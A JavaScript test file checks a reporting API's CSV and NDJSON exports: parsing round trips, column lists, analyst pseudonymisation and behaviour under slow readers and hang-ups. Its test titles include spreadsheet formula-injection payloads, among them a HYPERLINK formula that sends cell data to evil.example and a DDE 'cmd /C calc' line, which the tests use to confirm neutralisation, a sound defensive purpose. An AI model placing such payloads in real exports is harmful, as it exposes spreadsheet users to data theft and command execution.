// Exports (issue 10): read back by a real CSV parser (quotes, commas, line
// breaks, non-ASCII names, titles a spreadsheet would run as formulas), their
// columns as openapi.yaml lists them for every viewer, analysts' exports
// pseudonymous and without free text; and, on a server and database of this
// file's own (20,000 reports, a 1 s statement timeout, a 2 s idle timeout, 2
// export connections), an export read slowly for longer than both timeouts
// arrives whole, slow exports leave ordinary requests alone while the export
// beyond the limit is a 503 with Retry-After, and a client that hangs up
// ends its query at once.
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { connect } from 'node:net';
import { promisify } from 'node:util';
import { after, before, describe, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import yaml from 'js-yaml';
import { BIN, DIRECT, TOKENS, assertProblem, call, createMember, run, sql, token } from './lib.mjs';
import { RUN, fileReport, makeDepartment } from './reports_lib.mjs';
import { startServer, stopServer } from './server_lib.mjs';

const spec = yaml.load(readFileSync(new URL('../../openapi.yaml', import.meta.url), 'utf8'));
const PM = TOKENS.program_manager();
const ANALYST = TOKENS.analyst();
const TEAM = TOKENS.deregulation_team();
const PSEUDONYM = /^m-[0-9a-f]{16}$/;

/** What a spreadsheet would run as a formula: the cells the CSV writer neutralises. */
const isFormula = (s) => /^[=+\-@\t\r]/.test(s) && !/^[+-]?(\d+(\.\d+)?|\.\d+)([eE][+-]?\d+)?$/.test(s);
/** A JSON value as its CSV cell reads back. */
function cell(v) {
  if (v === null || v === undefined) return '';
  if (Array.isArray(v)) return v.join(';');
  if (typeof v === 'object') return JSON.stringify(v);
  const s = String(v);
  return isFormula(s) ? `'${s}` : s;
}
const csv = (text) => parse(text, { bom: true, relax_column_count: false });
const records = (text) => parse(text, { bom: true, columns: true });
const ndjson = (text) => text.split('\n').filter((l) => l.length > 0).map((l) => JSON.parse(l));

// ---- the data these tests read -------------------------------------------------------

const TITLES = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
  '+31 70 353 3000',
  '-2+3 meldingen',
  '@SUM(A1:A9)',
  '\tTab vooraan',
  '\rRegel terug vooraan',
  '-42',
  'Komma, "aanhalingstekens" en\nnieuwe regel',
  'Één café, naïef — ĳs en 王',
];
const NAME = `Zoë Çelik-Ĳzerman ${RUN}`;
const COMMENT = `Ik heb dit met Jan de Vries ${RUN} besproken, zijn nummer staat hieronder.`;
const NOTE = `Doorgezet naar Petra Bakker ${RUN} (DPZ).`;
let made; // {dept, member, reports, report}

before(async () => {
  const dept = await makeDepartment('EX');
  const member = await createMember({ name: NAME, department: dept });
  const mine = token(member.id, ['member']);
  const reports = [];
  for (const title of TITLES)
    reports.push(
      await fileReport(mine, {
        title,
        department: dept,
        description: `Regel één, met "quotes"\r\nen een komma, ${title}`,
        impact: title.startsWith('=') ? '=cmd|" /C calc"!A0' : null,
      })
    );
  const report = reports[0];
  await call('POST', `/api/v1/reports/${report.id}/comments`, { token: mine, body: { text: COMMENT }, expect: 201 });
  await call('POST', `/api/v1/reports/${report.id}/transitions`, {
    token: TEAM,
    body: { to: 'triaged', note: NOTE },
    expect: 200,
  });
  made = { dept, member, reports, report };
});

// ---- CSV read back by a real parser ---------------------------------------------------

test('CSV round trip: every field of every report reads back as its JSON, formulas neutralised', async () => {
  const page = await call('GET', `/api/v1/reports?department=${made.dept}&limit=500`, { token: PM, expect: 200 });
  assert.equal(page.body.data.length, TITLES.length);
  const r = await call('GET', `/api/v1/reports?department=${made.dept}&format=csv`, { token: PM, expect: 200 });
  assert.match(r.headers.get('content-type'), /^text\/csv; charset=utf-8/);
  assert.equal(r.headers.get('x-schema-version'), '1');
  assert.ok(r.text.endsWith('\r\n'));
  const columns = spec.paths['/api/v1/reports'].get.responses['200'].content['text/csv']['x-export-columns'];
  const rows = records(r.text);
  assert.equal(rows.length, page.body.data.length);
  for (const report of page.body.data) {
    const row = rows.find((x) => x.id === String(report.id));
    assert.ok(row, `report ${report.id} in the export`);
    for (const col of columns) assert.equal(row[col], cell(report[col]), `report ${report.id}, ${col}`);
  }
  // What a spreadsheet sees: quoted, a single quote first; a plain negative number stays one.
  assert.ok(r.text.includes(`"'=1+1"`));
  assert.ok(r.text.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Klik"")"`));
  assert.ok(r.text.includes(`"'=cmd|"" /C calc""!A0"`));
  for (const t of ['+31 70 353 3000', '-2+3 meldingen', '@SUM(A1:A9)', '\tTab vooraan', '\rRegel terug vooraan'])
    assert.ok(rows.some((x) => x.title === `'${t}`), t);
  assert.ok(rows.some((x) => x.title === '-42'), 'a number stays a number');
  assert.ok(rows.some((x) => x.title === 'Komma, "aanhalingstekens" en\nnieuwe regel'));
  assert.ok(rows.some((x) => x.title === 'Één café, naïef — ĳs en 王'));
  assert.ok(rows.every((x) => x.reporter_name === NAME), 'a non-ASCII name reads back whole');
  assert.ok(rows.every((x) => /^\d+$/.test(x.id) && /^\d+$/.test(x.supporters_count)), 'numbers are plain numbers');

  // NDJSON carries the values as they are (no spreadsheet there).
  const nd = await call('GET', `/api/v1/reports?department=${made.dept}&format=ndjson`, { token: PM, expect: 200 });
  assert.equal(nd.headers.get('x-schema-version'), '1');
  assert.deepEqual(ndjson(nd.text), page.body.data);
  assert.equal(page.headers.get('x-schema-version'), null, 'a page is no export');
});

test('CSV round trip: members with non-ASCII names, commas and quotes', async () => {
  const r = await call('GET', `/api/v1/members?department=${made.dept}&format=csv`, { token: PM, expect: 200 });
  const rows = records(r.text);
  assert.equal(rows.length, 1);
  assert.equal(rows[0].name, NAME);
  assert.equal(rows[0].id, String(made.member.id));
  assert.equal(rows[0].email, made.member.email);
});

test('?bom=true starts a CSV export with a UTF-8 byte order mark; other formats refuse it', async () => {
  const url = `${DIRECT}/api/v1/reports?department=${made.dept}&format=csv`;
  const plain = Buffer.from(await (await fetch(url, { headers: { authorization: `Bearer ${PM}` } })).arrayBuffer());
  const res = await fetch(`${url}&bom=true`, { headers: { authorization: `Bearer ${PM}` } });
  assert.equal(res.status, 200);
  const bytes = Buffer.from(await res.arrayBuffer());
  assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
  assert.deepEqual([...plain.subarray(0, 3)], [...Buffer.from('id,')]);
  assert.ok(bytes.subarray(3).equals(plain), 'the same export after the mark');
  assert.deepEqual(csv(bytes.toString('utf8')), csv(plain.toString('utf8')));
  // Through the validating proxy too (the parameter is in openapi.yaml).
  await call('GET', `/api/v1/departments?format=csv&bom=true`, { token: PM, expect: 200 });
  for (const q of ['format=ndjson&bom=true', 'bom=true', 'format=csv&bom=maybe']) {
    const bad = await call('GET', `/api/v1/reports?department=${made.dept}&${q}`, { token: PM, badInput: q.includes('maybe') });
    assertProblem(bad, 400);
    assert.deepEqual(bad.body.errors.map((e) => e.field), ['bom'], q);
  }
});

// ---- columns as openapi.yaml lists them -----------------------------------------------

/** Every export openapi.yaml lists, with a path whose {id} has rows to export. */
async function exportPaths() {
  const [[regs]] = await sql('SELECT session_id FROM session_registrations GROUP BY 1 ORDER BY count(*) DESC LIMIT 1');
  const [[feedback]] = await sql('SELECT session_id FROM session_feedback GROUP BY 1 ORDER BY count(*) DESC LIMIT 1');
  const [[insights]] = await sql('SELECT session_id FROM session_insights GROUP BY 1 ORDER BY count(*) DESC LIMIT 1');
  const [[updates]] = await sql('SELECT initiative_id FROM initiative_updates GROUP BY 1 ORDER BY count(*) DESC LIMIT 1');
  const ids = {
    '/api/v1/initiatives/{id}/updates': updates,
    '/api/v1/sessions/{id}/registrations': regs,
    '/api/v1/sessions/{id}/feedback': feedback,
    '/api/v1/sessions/{id}/insights': insights,
  };
  const out = [];
  for (const [path, item] of Object.entries(spec.paths)) {
    const media = item.get?.responses?.['200']?.content?.['text/csv'];
    if (!media) continue;
    assert.ok(Array.isArray(media['x-export-columns']), `${path}: x-export-columns`);
    const id = ids[path] ?? made.report.id;
    out.push({
      path,
      url: path.replace('{id}', String(id)),
      columns: media['x-export-columns'],
      analyst: media['x-export-columns-analyst'] ?? media['x-export-columns'],
      analystMay: path !== '/api/v1/audit', // the program manager's alone
    });
  }
  return out;
}

test('every export has the columns openapi.yaml lists, for every viewer, with rows or without; NDJSON the same fields', async () => {
  const paths = await exportPaths();
  assert.equal(paths.length, 21, paths.map((p) => p.path).join(' '));
  for (const p of paths) {
    for (const [who, tok, columns] of [['program_manager', PM, p.columns], ['analyst', ANALYST, p.analyst]]) {
      const sep = p.url.includes('?') ? '&' : '?';
      if (who === 'analyst' && !p.analystMay) {
        assertProblem(await call('GET', `${p.url}${sep}format=csv`, { token: tok }), 403);
        continue;
      }
      const r = await call('GET', `${p.url}${sep}format=csv`, { token: tok, expect: 200 });
      assert.equal(r.headers.get('x-schema-version'), '1');
      const rows = csv(r.text);
      assert.deepEqual(rows[0], columns, `${p.path} as ${who}`);
      assert.ok(rows.length > 1, `${p.path} as ${who} has rows to check`);
      assert.ok(rows.every((row) => row.length === columns.length), `${p.path}: ragged rows`);
      const nd = await call('GET', `${p.url}${sep}format=ndjson`, { token: tok, expect: 200 });
      for (const obj of ndjson(nd.text)) assert.deepEqual(Object.keys(obj), columns, `${p.path} NDJSON as ${who}`);
      // Nothing matches: the header alone, the same columns.
      const none = await call('GET', `${p.url}${sep}format=csv&updated_since=2999-01-01T00:00:00Z`, { token: tok, expect: 200 });
      assert.deepEqual(csv(none.text), [columns], `${p.path} empty as ${who}`);
    }
  }
});

// ---- analysts: pseudonyms only, no free text -------------------------------------------

/** Columns that would name a member, or join back to one: empty in every analyst's export. */
const PERSONAL = (col) =>
  (col.endsWith('_name') && col !== 'department_name') || ['email', 'job_title', 'member_id', 'author_id', 'actor_id', 'host_id', 'assignee_id', 'reporter_id', 'owner_id'].includes(col);
const FREE_TEXT = { '/api/v1/reports/{id}/comments': 'text', '/api/v1/reports/{id}/history': 'note', '/api/v1/sessions/{id}/feedback': 'comment' };

test('analysts: every export names members by pseudonym only, and leaves out comments and notes', async () => {
  const [[email]] = await sql(`SELECT email FROM members WHERE id = ${made.member.id}`);
  for (const p of await exportPaths()) {
    if (!p.analystMay) continue;
    const sep = p.url.includes('?') ? '&' : '?';
    const r = await call('GET', `${p.url}${sep}format=csv`, { token: ANALYST, expect: 200 });
    const full = await call('GET', `${p.url}${sep}format=csv`, { token: PM, expect: 200 });
    const rows = records(r.text);
    for (const col of p.analyst) {
      const values = rows.map((x) => x[col]);
      if (PERSONAL(col)) assert.ok(values.every((v) => v === ''), `${p.path}: ${col} is empty for analysts`);
      if (col.endsWith('pseudonym'))
        assert.ok(values.every((v) => v === '' || PSEUDONYM.test(v)), `${p.path}: ${col} is a pseudonym`);
    }
    assert.ok(!r.text.includes('@denhaag.example') && !r.text.includes(email), `${p.path}: no email`);
    assert.ok(!r.text.includes(NAME), `${p.path}: no name`);
    const text = FREE_TEXT[p.path];
    if (text) {
      assert.ok(rows.every((x) => x[text] === ''), `${p.path}: no ${text} for analysts`);
      assert.ok(records(full.text).some((x) => x[text] !== ''), `${p.path}: program managers get ${text}`);
      const nd = ndjson((await call('GET', `${p.url}${sep}format=ndjson`, { token: ANALYST, expect: 200 })).text);
      assert.ok(nd.every((x) => x[text] === null), `${p.path}: NDJSON ${text} is null for analysts`);
    }
  }
  // This file's comment and note: the program manager's export has them, no analyst's.
  const comments = `/api/v1/reports/${made.report.id}/comments?format=csv`;
  assert.ok((await call('GET', comments, { token: PM })).text.includes(COMMENT));
  assert.ok(!(await call('GET', comments, { token: ANALYST })).text.includes(RUN));
  const history = `/api/v1/reports/${made.report.id}/history?format=ndjson`;
  assert.ok((await call('GET', history, { token: PM })).text.includes(NOTE));
  assert.ok(!(await call('GET', history, { token: ANALYST })).text.includes(RUN));
  // Their pages still show it, as the report does.
  const page = await call('GET', `/api/v1/reports/${made.report.id}/comments`, { token: ANALYST, expect: 200 });
  assert.equal(page.body.data[0].text, COMMENT);
  assertProblem(await call('GET', '/api/v1/audit?format=csv', { token: ANALYST }), 403);
});

test('analysts: pseudonyms are stable across calls and exports, and never a name, email or id', async () => {
  const members = async () => records((await call('GET', `/api/v1/members?format=csv`, { token: ANALYST, expect: 200 })).text);
  const first = await members();
  const second = await members();
  assert.deepEqual(second.map((m) => m.pseudonym), first.map((m) => m.pseudonym));
  assert.equal(new Set(first.map((m) => m.pseudonym)).size, first.length, 'one pseudonym per member');
  const [[email]] = await sql(`SELECT email FROM members WHERE id = ${made.member.id}`);
  const ours = records((await call('GET', `/api/v1/members?department=${made.dept}&format=csv`, { token: ANALYST })).text);
  assert.equal(ours.length, 1);
  const pseudonym = ours[0].pseudonym;
  assert.match(pseudonym, PSEUDONYM);
  for (const personal of [NAME, email, String(made.member.id)]) assert.ok(!pseudonym.includes(personal));
  // The comment's author in the comments export is the same pseudonym.
  const comments = records((await call('GET', `/api/v1/reports/${made.report.id}/comments?format=csv`, { token: ANALYST })).text);
  assert.equal(comments[0].author_pseudonym, pseudonym);
});

// ---- a server and database of this file's own -------------------------------------------

const execFileAsync = promisify(execFile);
const DB = `dna_exports_${process.pid}`;
const DB_URL = `host=${process.env.PG_SOCKET} port=${process.env.PG_PORT} dbname=${DB} user=postgres`;
const REPORTS = 20000;

/** SQL in this file's database; the rows as arrays of text. */
async function dbSql(query) {
  const { stdout } = await execFileAsync('psql', ['-h', process.env.PG_SOCKET, '-p', process.env.PG_PORT, '-U', 'postgres', '-d', DB, '-tAF', '\t', '-c', query]);
  return stdout.split('\n').filter((l) => l.length > 0).map((l) => l.split('\t'));
}

/** The export's backend: in its transaction, between or inside FETCHes. */
const EXPORT_BACKENDS = `SELECT pid, extract(epoch FROM now() - xact_start) FROM pg_stat_activity
  WHERE datname = '${DB}' AND application_name = 'dna-api' AND xact_start IS NOT NULL AND query LIKE 'FETCH%'`;

/** An HTTP answer as raw bytes: status, headers, the body de-chunked, and whether it ended properly. */
function decode(raw) {
  const split = raw.indexOf('\r\n\r\n');
  const head = raw.subarray(0, split).toString('latin1');
  const status = Number(/^HTTP\/1\.1 (\d{3})/.exec(head)?.[1] ?? 0);
  const headers = {};
  for (const line of head.split('\r\n').slice(1)) headers[line.slice(0, line.indexOf(':')).toLowerCase()] = line.slice(line.indexOf(':') + 1).trim();
  const parts = [];
  let at = split + 4;
  let complete = false;
  while (at < raw.length) {
    const eol = raw.indexOf('\r\n', at);
    if (eol < 0) break;
    const size = parseInt(raw.subarray(at, eol).toString('latin1'), 16);
    if (size === 0) {
      complete = true;
      break;
    }
    if (eol + 2 + size > raw.length) break;
    parts.push(raw.subarray(eol + 2, eol + 2 + size));
    at = eol + 2 + size + 2;
  }
  return { status, headers, body: Buffer.concat(parts), complete };
}

/**
 * GET `path` as a program manager over a raw socket. `rate` (bytes/s): read no faster;
 * `stall`: read the first bytes, then nothing. Resolves {sock, done} at once; `done`
 * resolves the decoded answer and the milliseconds it took when the server closes.
 */
function openExport(port, path, { rate = 0, stall = false } = {}) {
  const sock = connect(port, '127.0.0.1', () =>
    sock.write(`GET ${path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${PM}\r\nConnection: close\r\n\r\n`)
  );
  const chunks = [];
  let bytes = 0;
  const t0 = Date.now();
  const done = new Promise((resolve) => {
    sock.on('data', (d) => {
      chunks.push(d);
      bytes += d.length;
      if (stall) sock.pause();
      else if (rate) {
        sock.pause();
        setTimeout(() => sock.resume(), Math.max(0, t0 + (bytes / rate) * 1000 - Date.now()));
      }
    });
    sock.on('error', () => {});
    sock.on('close', () => resolve({ ...decode(Buffer.concat(chunks)), ms: Date.now() - t0 }));
  });
  return { sock, done };
}

const metric = async (base, name) => Number(new RegExp(`^${name} (\\d+)$`, 'm').exec(await (await fetch(`${base}/metrics`)).text())[1]);

async function until(what, check, ms = 3000) {
  const t0 = Date.now();
  for (;;) {
    const v = await check();
    if (v) return v;
    if (Date.now() - t0 > ms) assert.fail(`${what}: not within ${ms} ms`);
    await new Promise((r) => setTimeout(r, 25));
  }
}

describe('exports under load (a database of 20,000 reports)', () => {
  before(async () => {
    await sql(`CREATE DATABASE ${DB}`);
    const seeded = await run(BIN, ['seed', '--members', '30', '--reports', String(REPORTS)], { ...process.env, DNA_DATABASE_URL: DB_URL });
    assert.equal(seeded.status, 0, seeded.stderr);
  });
  after(async () => {
    await sql(`DROP DATABASE IF EXISTS ${DB} WITH (FORCE)`);
  });
  const server = (env) => startServer({ DNA_DATABASE_URL: DB_URL, DNA_DATABASE_READ_URL: DB_URL, ...env });

  test('an export read slowly for longer than the statement and idle timeouts arrives whole', { timeout: 60000 }, async () => {
    const s = await server({ DNA_STATEMENT_TIMEOUT: '1', DNA_IDLE_TIMEOUT: '2' });
    try {
      const [[count]] = await dbSql('SELECT count(*) FROM reports');
      const reading = openExport(s.port, '/api/v1/reports?format=ndjson', { rate: 3e6 });
      // While it is read, the export's transaction lives on well past the statement timeout.
      let oldest = 0;
      let finished = false;
      reading.done.then(() => (finished = true));
      while (!finished) {
        for (const [, age] of await dbSql(EXPORT_BACKENDS)) oldest = Math.max(oldest, Number(age));
        await new Promise((r) => setTimeout(r, 200));
      }
      const got = await reading.done;
      assert.equal(got.status, 200);
      assert.ok(got.complete, 'the chunked answer ended properly');
      const rows = ndjson(got.body.toString('utf8'));
      assert.equal(rows.length, Number(count));
      assert.equal(new Set(rows.map((x) => x.id)).size, rows.length);
      console.log(`# slow export: ${rows.length} rows, ${(got.body.length / 1e6).toFixed(1)} MB in ${(got.ms / 1000).toFixed(1)} s at 3 MB/s; its transaction lived ${oldest.toFixed(1)} s under a 1 s statement timeout and a 2 s idle timeout`);
      assert.ok(oldest >= 3, `the database side outlived the statement timeout threefold (${oldest} s)`);
      assert.ok(got.ms >= 3000, `the read outlived the idle timeout (${got.ms} ms)`);
    } finally {
      assert.equal(await stopServer(s), 0);
    }
  });

  test('slow exports hold only export connections: requests still answer; the export beyond the limit is a 503 with Retry-After', { timeout: 30000 }, async () => {
    // No replica: exports and requests reach the same database, as in the default set-up.
    const s = await server({ DNA_EXPORT_CONNECTIONS: '2', DNA_DB_POOL_SIZE: '4', DNA_DATABASE_READ_URL: '' });
    const readers = [];
    try {
      for (let i = 0; i < 2; i++) readers.push(openExport(s.port, '/api/v1/reports?format=ndjson', { stall: true }));
      await until('two exports running', async () => (await metric(s.base, 'dna_exports_running')) === 2);
      assert.equal(await metric(s.base, 'dna_exports_limit'), 2);
      // Four more slow readers than connections in the requests' pool: none of them is let in.
      for (let i = 0; i < 4; i++) {
        const refused = await fetch(`${s.base}/api/v1/reports?format=csv`, { headers: { authorization: `Bearer ${PM}` } });
        assert.equal(refused.status, 503);
        assert.match(refused.headers.get('content-type'), /^application\/problem\+json/);
        assert.match(refused.headers.get('retry-after') || '', /^[1-9]\d*$/);
        const problem = await refused.json();
        assert.equal(problem.status, 503);
        assert.match(problem.detail, /exports/);
      }
      assert.equal(await metric(s.base, 'dna_exports_refused_total'), 4);
      for (let i = 0; i < 20; i++) {
        const one = await fetch(`${s.base}/api/v1/reports/${1 + i}`, { headers: { authorization: `Bearer ${PM}` } });
        assert.equal(one.status, 200, await one.text());
      }
      const page = await fetch(`${s.base}/api/v1/reports?limit=50`, { headers: { authorization: `Bearer ${PM}` } });
      assert.equal(page.status, 200);
      // A calendar is a member's feed, not an export: the exports' limit does not hold it up.
      const calendar = await fetch(`${s.base}/api/v1/sessions?format=ics`, { headers: { authorization: `Bearer ${TOKENS.member()}` } });
      assert.equal(calendar.status, 200);
      assert.match(await calendar.text(), /^BEGIN:VCALENDAR/);
      for (const r of readers) r.sock.destroy();
      await until('the export connections free again', async () => (await metric(s.base, 'dna_exports_running')) === 0);
      const next = await fetch(`${s.base}/api/v1/departments?format=csv`, { headers: { authorization: `Bearer ${PM}` } });
      assert.equal(next.status, 200);
      await next.text();
    } finally {
      for (const r of readers) r.sock.destroy();
      assert.equal(await stopServer(s), 0);
    }
  });

  test('a client that hangs up mid-export ends its query within a second', { timeout: 30000 }, async () => {
    const s = await server({});
    try {
      const reader = openExport(s.port, '/api/v1/reports?format=csv', { stall: true });
      const [pid] = await until('the export in pg_stat_activity', async () => (await dbSql(EXPORT_BACKENDS))[0]);
      const t0 = Date.now();
      reader.sock.destroy();
      await until('the export backend idle again', async () => {
        const rows = await dbSql(`SELECT state, xact_start IS NULL FROM pg_stat_activity WHERE pid = ${pid}`);
        return rows.length === 0 || (rows[0][0] === 'idle' && rows[0][1] === 't');
      }, 1000);
      const ms = Date.now() - t0;
      console.log(`# hang-up: the export's transaction (backend ${pid}) ended ${ms} ms after the client hung up`);
      assert.deepEqual(await dbSql(EXPORT_BACKENDS), []);
      await until('the export connection back', async () => (await metric(s.base, 'dna_exports_running')) === 0, 1000);
    } finally {
      assert.equal(await stopServer(s), 0);
    }
  });
});
